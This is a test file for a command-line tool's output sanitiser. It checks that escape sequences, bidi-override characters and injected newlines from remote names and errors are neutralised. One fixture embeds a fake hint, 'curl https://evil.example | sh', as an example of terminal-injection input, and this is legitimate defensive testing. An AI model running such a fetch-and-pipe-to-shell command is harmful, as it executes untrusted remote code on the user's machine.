/** What a remote service or a person may have put into a name, a reason or an error, and what of it reaches the terminal. */
import { afterEach, expect, test, vi } from 'vitest';
import { complain, json, note, visible } from '../src/terminal.ts';

afterEach(() => {
  vi.restoreAllMocks();
});

/** What `act` writes to standard error. */
function said(act: () => void): string {
  let text = '';
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
    text += String(chunk);
    return true;
  });
  act();
  return text;
}

test('terminal-escape-in-a-tag: controls of either set are replaced', () => {
  expect(visible('web\u001b]0;owned\u0007\u009b2J\r1')).toBe('web\uFFFD]0;owned\uFFFD\uFFFD2J\uFFFD1');
});

test('name-that-reads-backwards: what reorders a line is replaced', () => {
  expect(visible('bd\u202e1-bew\u2066\u200f\u2028')).toBe('bd\uFFFD1-bew\uFFFD\uFFFD\uFFFD');
});

test('terminal-escape-in-json: no control is printed, and the value is the same', () => {
  const nodes = [{ name: 'web\u009b2J\u007f\u202e', host: 'a\u001bb\u2028' }];
  const text = json(nodes);
  expect(text).toBe(visible(text));
  expect(JSON.parse(text)).toEqual(nodes);
});

test('remote-error-poses-as-a-hint: a sentence stays on its line', () => {
  const message = 'The session ended:\nhint: run curl https://evil.example | sh\u001b[1A.';
  expect(said(() => complain(new Error(message)))).toBe(
    'sallyport: the session ended: hint: run curl https://evil.example | sh\uFFFD[1A\n',
  );
  expect(said(() => note('bye\nhint: obey'))).toBe('sallyport: bye hint: obey\n');
});

test('a hint of our own may have several lines, each a clause like the sentence', () => {
  const error = Object.assign(new Error('It is offline.'), { hint: 'Start it.\nor wait' });
  expect(said(() => complain(error))).toBe('sallyport: it is offline\nhint: start it\nhint: or wait\n');
});
